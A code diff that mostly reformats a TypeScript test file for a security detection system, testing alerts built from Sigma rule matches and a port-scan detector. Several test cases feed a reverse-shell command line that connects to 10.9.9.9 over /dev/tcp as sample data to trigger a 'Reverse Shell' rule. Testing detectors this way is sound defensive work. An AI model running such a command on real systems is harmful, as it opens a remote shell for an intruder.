@@ -13,7 +13,12 @@ import { RuleCatalog } from './rule-catalog';
 import { processLaunch } from './spec-events';
 
 const WINDOW_MS = 60_000;
-const batch = { senderId: 'spiffe://omega.local/sentinel/node-1', sessionId: 's1', sequence: 7n, streamSequence: 42n };
+const batch = {
+  senderId: 'spiffe://omega.local/sentinel/node-1',
+  sessionId: 's1',
+  sequence: 7n,
+  streamSequence: 42n,
+};
 
 describe('alertFromSigmaMatch', () => {
   let catalog: RuleCatalog;
@@ -28,8 +33,15 @@ describe('alertFromSigmaMatch', () => {
     );
 
   function build(event = reverseShell()) {
-    const rule = catalog.sigmaRules.find((r) => r.compiled.rule.title.startsWith('Reverse Shell'))!.compiled;
-    return alertFromSigmaMatch(rule, rule.explain(event), { event, batch, eventIndex: 3 }, WINDOW_MS);
+    const rule = catalog.sigmaRules.find((r) =>
+      r.compiled.rule.title.startsWith('Reverse Shell'),
+    )!.compiled;
+    return alertFromSigmaMatch(
+      rule,
+      rule.explain(event),
+      { event, batch, eventIndex: 3 },
+      WINDOW_MS,
+    );
   }
 
   it('carries the rule, OCSF severity from the level, ATT&CK ids and the evidence event', () => {
@@ -72,10 +84,16 @@ describe('alertFromSigmaMatch', () => {
   it('gives the same id to the same rule and entity in the same window, another in the next', () => {
     const first = build().alert.id;
     const sameWindow = build(
-      processLaunch({ Image: '/bin/bash', CommandLine: 'bash -i >& /dev/tcp/10.9.9.9/5555 0>&1' }, { timeNs: 1_700_000_000_124_000_000n }),
+      processLaunch(
+        { Image: '/bin/bash', CommandLine: 'bash -i >& /dev/tcp/10.9.9.9/5555 0>&1' },
+        { timeNs: 1_700_000_000_124_000_000n },
+      ),
     ).alert.id;
     const nextWindow = build(
-      processLaunch({ Image: '/bin/bash', CommandLine: 'bash -i >& /dev/tcp/10.9.9.9/5555 0>&1' }, { timeNs: 1_700_000_000_123_000_000n + 60_000_000_000n }),
+      processLaunch(
+        { Image: '/bin/bash', CommandLine: 'bash -i >& /dev/tcp/10.9.9.9/5555 0>&1' },
+        { timeNs: 1_700_000_000_123_000_000n + 60_000_000_000n },
+      ),
     ).alert.id;
     expect(first).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
     expect(sameWindow).toBe(first);
@@ -97,7 +115,11 @@ describe('alertFromFinding', () => {
     );
     const findings = events.flatMap((e) => detectors.observe(e));
     expect(findings).toHaveLength(1);
-    const { alert, entityKey } = alertFromFinding(findings[0]!, { event: events[3]!, batch, eventIndex: 3 }, WINDOW_MS);
+    const { alert, entityKey } = alertFromFinding(
+      findings[0]!,
+      { event: events[3]!, batch, eventIndex: 3 },
+      WINDOW_MS,
+    );
     expect(entityKey).toBe('pod:shop/cart-1');
     expect(alert).toMatchObject({
       ruleId: 'detector:port-scan',
@@ -113,14 +135,23 @@ describe('alertFromFinding', () => {
     expect(alert.explanation).toBe(findings[0]!.explanation);
     expect(alert.confidence).toBeGreaterThanOrEqual(0);
     expect(alert.confidence).toBeLessThanOrEqual(100);
-    expect(alert.id).toBe(deterministicAlertId('detector:port-scan', 'trw-host-scan', 'pod:shop/cart-1', 0n));
+    expect(alert.id).toBe(
+      deterministicAlertId('detector:port-scan', 'trw-host-scan', 'pod:shop/cart-1', 0n),
+    );
   });
 });
 
 describe('severityName', () => {
   it('names OCSF severities 0–6 for the alert subject', () => {
     expect([0, 1, 2, 3, 4, 5, 6, 99].map((s) => severityName(s))).toEqual([
-      'unknown', 'informational', 'low', 'medium', 'high', 'critical', 'fatal', 'unknown',
+      'unknown',
+      'informational',
+      'low',
+      'medium',
+      'high',
+      'critical',
+      'fatal',
+      'unknown',
     ]);
   });
 });
